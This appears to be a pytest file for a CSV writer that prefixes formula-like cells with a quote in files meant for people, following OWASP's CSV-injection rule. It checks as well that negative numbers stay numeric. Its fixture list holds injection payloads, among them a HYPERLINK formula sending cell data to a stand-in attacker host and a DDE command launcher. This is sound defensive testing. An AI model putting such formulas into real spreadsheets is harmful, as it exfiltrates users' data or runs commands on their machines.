"""Files for people hold no live formula (OWASP's rule for CSV injection), and numbers stay numbers."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd

from data.loaders.tables import write_table

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1,1)", "-2+3",
            "\tTAB", "\rCR"]  # fmt: skip


def test_text_that_would_run_is_quoted_and_numbers_are_not(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "claim_id": PAYLOADS,
            "charge": [-2.5, 3.0, -1.0, 0.0, 4.0, -7.25],
            "note": ["plain"] * len(PAYLOADS),
        }
    )
    path = write_table(frame, tmp_path / "for-people.csv", for_people=True)
    rows = list(csv.DictReader(path.open(newline="")))
    assert [r["claim_id"] for r in rows] == ["'" + p for p in PAYLOADS]
    assert [float(r["charge"]) for r in rows] == frame["charge"].tolist()  # a negative number is a number
    assert {r["note"] for r in rows} == {"plain"}
    numbers_as_text = write_table(
        pd.DataFrame({"age": ["-3", "+4", "-2.5e3"]}), tmp_path / "t.csv", for_people=True
    )
    assert [r["age"] for r in csv.DictReader(numbers_as_text.open(newline=""))] == ["-3", "+4", "-2.5e3"]
    # A file for systems (the data files careops reads back) keeps the text as it was.
    raw = write_table(frame, tmp_path / "for-systems.csv")
    assert [r["claim_id"] for r in csv.DictReader(raw.open(newline=""))][:4] == PAYLOADS[:4]
